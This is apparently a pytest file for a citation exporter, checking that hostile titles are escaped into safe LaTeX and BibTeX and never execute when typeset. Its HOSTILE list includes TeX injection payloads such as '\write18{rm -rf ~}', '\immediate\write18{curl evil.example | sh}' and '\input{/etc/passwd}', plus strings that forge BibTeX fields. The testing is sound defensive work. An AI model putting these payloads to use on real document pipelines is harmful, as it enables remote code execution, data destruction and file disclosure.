"""LaTeX safety of exported values: hostile footnote text runs no TeX and reads back intact."""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import bibtexparser
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pylatexenc.latex2text import LatexNodes2Text

from refcli.exporters import export
from refcli.exporters.latex_escape import clean_text, decode_latex, escape, escape_url, unescape_url
from refcli.model import Citation, Person
from refcli.sources import Source, assign_keys, identity

from .test_export_support import brace_depths_ok, control_sequences, unsafe_control_sequences

HOSTILE = [
    r"\input{/etc/passwd}",
    r"\include{secret}",
    r"\write18{rm -rf ~}",
    r"\immediate\write18{curl evil.example | sh}",
    r"\catcode`\{=12 \catcode`\}=12",
    r"\def\x{\x}\x",
    r"\csname input\endcsname{/etc/passwd}",
    "{unbalanced",
    "unbalanced}",
    "}{ reversed",
    "50% of the fond & #1 of $5 _under_ ~tilde ^caret",
    "\\",
    "ends with a backslash \\",
    "Протокол № 5 заседания Политбюро ЦК «О положении в ДРВ»",
    "Ёлка, ёж, Йошкар-Ола, подъезд, объём",
    "Müller, Žižek, Łódź, Øresund, façade, naïve",
    "\"double\" and 'single' quotes, ''TeX quotes'' and ``back quotes``",
    "en -- dash, em --- dash, << guillemets >>, ,,low quotes",
    "¡Spanish!` ligatures?` too",
    "a\u00a0b (a no-break space is a tie)",
    "@misc{injected, title={x}}",
    "} , title = {forged field",
    "\\end{document}",
    "$$\\displaystyle$$",
]


def _whitespace_normalised(text: str) -> str:
    return clean_text(text)


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("ascii_only", [False, True], ids=["biblatex", "bibtex"])
def test_hostile_text_reads_back(text: str, ascii_only: bool) -> None:
    """A hostile string escaped for either dialect decodes (pylatexenc) to the original text."""
    tex = escape(text, ascii_only)
    assert decode_latex(tex) == _whitespace_normalised(text)
    assert brace_depths_ok(tex), tex
    assert unsafe_control_sequences(tex, text) == [], tex
    if ascii_only:
        assert tex.isascii(), tex


@pytest.mark.parametrize("text", [t for t in HOSTILE if "\\" in t])
def test_no_user_control_sequence_survives(text: str) -> None:
    """Every backslash of the input becomes \\textbackslash{}, so no user macro reaches TeX."""
    tex = escape(text)
    assert control_sequences(tex).count("textbackslash") == text.count("\\")
    for word in ("input", "write", "catcode", "csname", "def", "include", "end"):
        assert f"\\{word}" not in tex


def test_stock_latex2text_reads_the_common_escapes() -> None:
    """pylatexenc's stock latex2text (no refcli macros) also reads %, &, #, _, $ and Cyrillic back."""
    text = "50% & #1 _x_ $5 Протокол Müller"
    stock = LatexNodes2Text()
    assert stock.latex_to_text(escape(text)) == text
    assert stock.latex_to_text(escape(text, ascii_only=True)) == text


def test_cyrillic_is_utf8_for_biblatex_and_t2a_for_bibtex() -> None:
    """biblatex keeps Cyrillic as UTF-8; classic BibTeX gets the T2A macros ({\\CYRP}{\\cyrr}...)."""
    assert escape("Протокол") == "Протокол"
    assert escape("Протокол", ascii_only=True) == r"{\CYRP}{\cyrr}{\cyro}{\cyrt}{\cyro}{\cyrk}{\cyro}{\cyrl}"


def test_ligatures_are_broken() -> None:
    """-- and '' would print as a dash and a quote; {} between them keeps the text as written."""
    assert escape("a--b ''c''") == "a-{}-b '{}'c'{}'"


def test_whitespace_collapses_but_no_break_space_is_a_tie() -> None:
    """A blank line (TeX's \\par) and tabs become one space; a no-break space becomes ~."""
    assert escape("a\n\n\tb\u00a0c") == "a b~c"


@pytest.mark.parametrize("url", [
    "https://digitalarchive.wilsoncenter.org/document/208969",
    "http://www.juche-songun.ru/index.php?a=1&b=50%25#part_2",
    "https://example.org/a b/{x}\\y",
])
def test_urls_stay_balanced_and_read_back(url: str) -> None:
    """URLs keep %, #, & for verbatim url fields and are \\%-escaped inside \\url{}."""
    for in_macro in (False, True):
        out = escape_url(url, in_macro)
        assert brace_depths_ok(out)
        assert "\\" not in out.replace("\\%", "").replace("\\#", "")
        back = unescape_url("\\url{" + out + "}" if in_macro else out)
        assert back == url.replace(" ", "%20").replace("{", "%7B").replace("}", "%7D").replace("\\", "%5C")


def _source(title: str) -> list[Source]:
    record = Citation("book", authors=(Person("Author", "A."),), title=title, year="1957")
    sources = [Source(identity(record), "", record)]
    assign_keys(sources)
    return sources


@pytest.mark.parametrize("fmt", ["biblatex", "bibtex"])
def test_hostile_titles_make_one_clean_entry_each(fmt: str) -> None:
    """A file of hostile titles parses with no failed block and every title decodes back."""
    for text in HOSTILE:
        out = export(_source(text), fmt)
        library = bibtexparser.parse_string(out)
        assert library.failed_blocks == [], (text, out)
        assert len(library.entries) == 1, (text, out)
        assert decode_latex(library.entries[0]["title"]) == _whitespace_normalised(text)


@pytest.mark.parametrize("fmt", ["biblatex", "bibtex"])
def test_stock_latex_decoding_middleware_reads_the_file(fmt: str) -> None:
    """bibtexparser's own LatexDecodingMiddleware reads a Cyrillic title back from either dialect."""
    from bibtexparser.middlewares import LatexDecodingMiddleware

    out = export(_source("Протокол «заседания» 50% & #1"), fmt)
    library = bibtexparser.parse_string(out, append_middleware=[LatexDecodingMiddleware()])
    assert library.entries[0]["title"] == "Протокол «заседания» 50% & #1"


_TEXT = st.text(st.characters(codec="utf-8", categories=("L", "N", "P", "S", "Zs", "Cc")),
                max_size=60)


@settings(max_examples=300, deadline=None)
@given(_TEXT, st.booleans())
def test_escape_property(text: str, ascii_only: bool) -> None:
    """For any text: escape never raises, braces balance, no foreign control sequence appears,
    and pylatexenc reads back the (whitespace-normalised) text."""
    tex = escape(text, ascii_only)
    assert brace_depths_ok(tex)
    assert unsafe_control_sequences(tex, text) == []
    assert decode_latex(tex) == clean_text(text)


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=80))
def test_decode_never_raises(value: str) -> None:
    """decode_latex reads any field value (what a foreign .bib may hold) without raising."""
    assert isinstance(decode_latex(value), str)


# --- a real LaTeX run ---------------------------------------------------------------------------

_DOC = r"""\documentclass{article}
\usepackage[T1]{fontenc}
\usepackage[backend=biber,style=authoryear]{biblatex}
\addbibresource{refs.bib}
\begin{document}
\nocite{*}
\printbibliography
\end{document}
"""


def _have_tex(*files: str) -> bool:
    """True when the TeX programs and every one of FILES (found by kpsewhich) are installed."""
    if not shutil.which("kpsewhich"):
        return False
    found = subprocess.run(["kpsewhich", *files], capture_output=True, text=True, check=False)
    return len(found.stdout.split()) == len(files)


def _run(cmd: list[str], cwd: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(cmd, cwd=cwd, capture_output=True, text=True, timeout=120, check=False)


@pytest.mark.skipif(not (shutil.which("pdflatex") and shutil.which("biber")
                         and _have_tex("biblatex.sty", "etoolbox.sty", "t1enc.def")),
                    reason="pdflatex, biber, biblatex.sty or etoolbox.sty not installed "
                           "(apt-get install texlive-latex-extra biber)")
def test_pdflatex_and_biber_typeset_hostile_entries(tmp_path: Path) -> None:
    """pdflatex + biber typeset every hostile (Latin-script) title; none runs its TeX."""
    (tmp_path / "trap.tex").write_text(r"\errmessage{INJECTED}", encoding="utf-8")
    sources = []
    for i, text in enumerate(t for t in HOSTILE if not any("\u0400" <= c <= "\u04ff" for c in t)):
        record = Citation("book", authors=(Person(f"Author{chr(65 + i)}", "A."),),
                          title=text.replace("/etc/passwd", "trap").replace("secret", "trap"),
                          year="1957", city="Paris")
        sources.append(Source(identity(record), "", record))
    assign_keys(sources)
    (tmp_path / "refs.bib").write_text(export(sources, "biblatex"), encoding="utf-8")
    (tmp_path / "doc.tex").write_text(_DOC, encoding="utf-8")
    flags = ["-interaction=nonstopmode", "-halt-on-error", "-no-shell-escape"]
    first = _run(["pdflatex", *flags, "doc.tex"], tmp_path)
    assert first.returncode == 0, first.stdout[-2000:]
    bib = _run(["biber", "doc"], tmp_path)
    assert bib.returncode == 0, bib.stdout[-2000:]
    assert "ERROR" not in bib.stdout
    second = _run(["pdflatex", *flags, "doc.tex"], tmp_path)
    assert second.returncode == 0, second.stdout[-3000:]
    log = (tmp_path / "doc.log").read_text(encoding="latin-1")
    assert "INJECTED" not in log
    assert "trap.tex" not in log
    assert "runsystem" not in log  # \write18 never ran


_BIBTEX_DOC = r"""\documentclass{article}
\usepackage[T1]{fontenc}
\usepackage{url}
\begin{document}
\nocite{*}
\bibliographystyle{plain}
\bibliography{refs}
\end{document}
"""


@pytest.mark.skipif(not (shutil.which("pdflatex") and shutil.which("bibtex")
                         and _have_tex("plain.bst", "url.sty", "t1enc.def")),
                    reason="pdflatex, bibtex, plain.bst or url.sty not installed "
                           "(apt-get install texlive-latex-base)")
def test_classic_bibtex_typesets_hostile_entries(tmp_path: Path) -> None:
    """pdflatex + classic bibtex (plain.bst) typeset every hostile Latin-script title."""
    (tmp_path / "trap.tex").write_text(r"\errmessage{INJECTED}", encoding="utf-8")
    sources = []
    for i, text in enumerate(t for t in HOSTILE if not any("\u0400" <= c <= "\u04ff" for c in t)):
        record = Citation("book", authors=(Person(f"Author{chr(65 + i)}", "A."),),
                          title=text.replace("/etc/passwd", "trap"), year="1957",
                          publisher="Press", city="Paris")
        sources.append(Source(identity(record), "", record))
    web = Citation("web", title="Record", url="https://example.org/a?b=50%25&c#frag", year="2010")
    sources.append(Source(identity(web), "", web))
    assign_keys(sources)
    (tmp_path / "refs.bib").write_text(export(sources, "bibtex"), encoding="utf-8")
    (tmp_path / "doc.tex").write_text(_BIBTEX_DOC, encoding="utf-8")
    flags = ["-interaction=nonstopmode", "-halt-on-error", "-no-shell-escape"]
    assert _run(["pdflatex", *flags, "doc.tex"], tmp_path).returncode == 0
    bib = _run(["bibtex", "doc"], tmp_path)
    assert bib.returncode == 0, bib.stdout[-2000:]
    second = _run(["pdflatex", *flags, "doc.tex"], tmp_path)
    assert second.returncode == 0, second.stdout[-3000:]
    assert "INJECTED" not in (tmp_path / "doc.log").read_text(encoding="latin-1")
